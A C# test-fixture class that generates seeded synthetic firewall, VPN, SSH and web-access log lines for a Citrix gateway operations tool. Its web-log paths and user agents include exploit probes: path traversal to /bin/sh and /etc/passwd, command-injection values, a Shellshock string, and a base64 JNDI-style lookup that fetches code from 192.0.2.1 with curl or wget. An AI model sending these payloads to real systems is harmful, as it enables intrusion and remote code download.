using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;

namespace CitrixOps.SampleCases;

/// <summary>An ordinary month of the logs that are not in a support bundle of a sample case: firewalls, logons, virtual private network.</summary>
public static class OrdinaryMonth
{
    private static readonly string[] Inside = ["10.1.1.20", "10.1.1.21", "10.1.2.9"];
    private static readonly string[] Users = ["j.devries", "m.bakker", "a.yilmaz", "zo\u00c3\u00ab"];

    /// <summary>The lines of a log type, by seed: the same seed makes the same lines.</summary>
    /// <param name="logType">One of pfirewall, iptables, asa, fortigate, cef, nsvpn, notice, auth.</param>
    /// <param name="seed">The seed.</param>
    public static IEnumerable<string> Of(string logType, int seed)
    {
        var random = new Random(seed);
        for (var time = new DateTime(2026, 3, 1, 0, 3, 0, DateTimeKind.Utc); time.Month == 3; time = time.AddMinutes(random.Next(5, 40)))
        {
            var gateway = "192.0.2.10";
            var client = "198.51.100." + random.Next(20, 250).ToString(CultureInfo.InvariantCulture);
            var inside = Inside[random.Next(Inside.Length)];
            var port = random.Next(20_000, 60_000);
            var service = random.Next(3) switch { 0 => 443, 1 => 80, _ => 636 };
            var syslog = Stamps.Syslog(new DateTimeOffset(time));
            var iso = time.ToString("yyyy-MM-dd HH:mm:ss", CultureInfo.InvariantCulture);
            var user = Users[random.Next(Users.Length)];
            yield return logType switch
            {
                "pfirewall" => $"{iso} {(random.Next(9) == 0 ? "DROP" : "ALLOW")} TCP {gateway} {inside} {port} {service} 0 - 0 0 0 - - - RECEIVE",
                "iptables" => $"{syslog} fw01 kernel: [{random.Next(9999)}.1] FW-ACCEPT: IN=dmz OUT=lan SRC={gateway} DST={inside} LEN=60 TTL=63 ID=1 DF PROTO=TCP SPT={port} DPT={service} WINDOW=64240 SYN",
                "asa" => $"{time.ToString("MMM dd yyyy HH:mm:ss", CultureInfo.InvariantCulture)} fw01 : %ASA-6-302013: Built inbound TCP connection {port} for dmz:{gateway}/{port} ({gateway}/{port}) to inside:{inside}/{service} ({inside}/{service})",
                "fortigate" => $"date={iso[..10]} time={iso[11..]} devname=\"fw01\" logid=\"0000000013\" type=\"traffic\" tz=\"+0000\" srcip={gateway} srcport={port} srcintf=\"dmz\" dstip={inside} dstport={service} dstintf=\"lan\" policyid=4 proto=6 action=\"accept\" sentbyte={random.Next(9999)} rcvdbyte={random.Next(9999)}",
                "cef" => $"{syslog} fw01 CEF:0|Vendor|Firewall|1.0|100|Traffic allowed|3|src={client} spt={port} dst=203.0.113.10 dpt=443 proto=TCP act=allow",
                "nsvpn" => $"{syslog} <local1.info> gw nsaaad[412]: (0-57) process_kernel_socket: call to authenticate user :{user}, vsid :11813, userlen {user.Length}",
                "notice" => $"{syslog} <local7.notice> gw bash[{port}]: root on (null) shell_command=\"/netscaler/nsconmsg -K /var/nslog/newnslog -d current -g cpu_use\"",
                _ => $"{syslog} <auth.info> gw sshd[{port}]: Accepted keyboard-interactive/pam for nsroot from 10.1.1.5 port {port} ssh2",
            };
        }
    }

    /// <summary>Lines of products that are no gateway: web servers, mail, directories, Linux hosts.</summary>
    /// <param name="seed">The seed.</param>
    public static IEnumerable<string> OtherProducts(int seed)
    {
        var random = new Random(seed);
        string[] paths = ["/index.php?page=2", "/wp-login.php", "/owa/auth/logon.aspx", "/api/v1/items?q=a%20b", "/remote/login?lang=nl", "/dana-na/auth/url_default/welcome.cgi", "/static/..%20x.js", "/caf%C3%A9/menu", "/vpn-client/download.html", "/.well-known/acme-challenge/x",

            // what is tried on other products
            "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", "/public/plugins/grafana/../../../../../etc/passwd", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/x", "/php/utils/x.php/watchTowr.js.map",
            "/solr/admin/info?q=$%7Bx%7D", "/actuator/gateway/routes", "/boaform/admin/formLogin?a=;fetch+x", "/cgi-bin/luci/;stok=/locale?country=$(id%3E%60)"];
        string[] agents = ["Mozilla/5.0 (X11; Linux x86_64)", "x:lookup/Basic/Command/Base64/KGN1cmwgLXMgMTkyLjAuMi4xL2F8fHdnZXQgLXEgMTkyLjAuMi4xL2Ep", "curl/8.5.0", "Go-http-client/1.1", "() { :; }; /usr/bin/id", "python-requests/2.31"];
        return Enumerable.Range(0, 3000).Select(i =>
        {
            var time = new DateTimeOffset(2026, 3, 1, 0, 0, 0, TimeSpan.Zero).AddMinutes(i * 13);
            var client = "198.51.100." + random.Next(20, 250).ToString(CultureInfo.InvariantCulture);
            return (i % 5) switch
            {
                0 or 1 => $"{client} - - [{Stamps.Access(time)}] \"{(random.Next(3) == 0 ? "POST" : "GET")} {paths[random.Next(paths.Length)]} HTTP/1.1\" {(random.Next(4) == 0 ? 404 : 200)} {random.Next(9999)} \"https://www.example/\" \"{agents[random.Next(agents.Length)]}\"",
                2 => $"{Stamps.Syslog(time)} web01 sshd[{random.Next(9999)}]: Failed password for root from {client} port 4022 ssh2",
                3 => $"{Stamps.Syslog(time)} mail01 postfix/smtpd[{random.Next(9999)}]: connect from unknown[{client}]",
                _ => $"{Stamps.Syslog(time)} web01 systemd[1]: Started Session {i} of user backup.",
            };
        });
    }
}
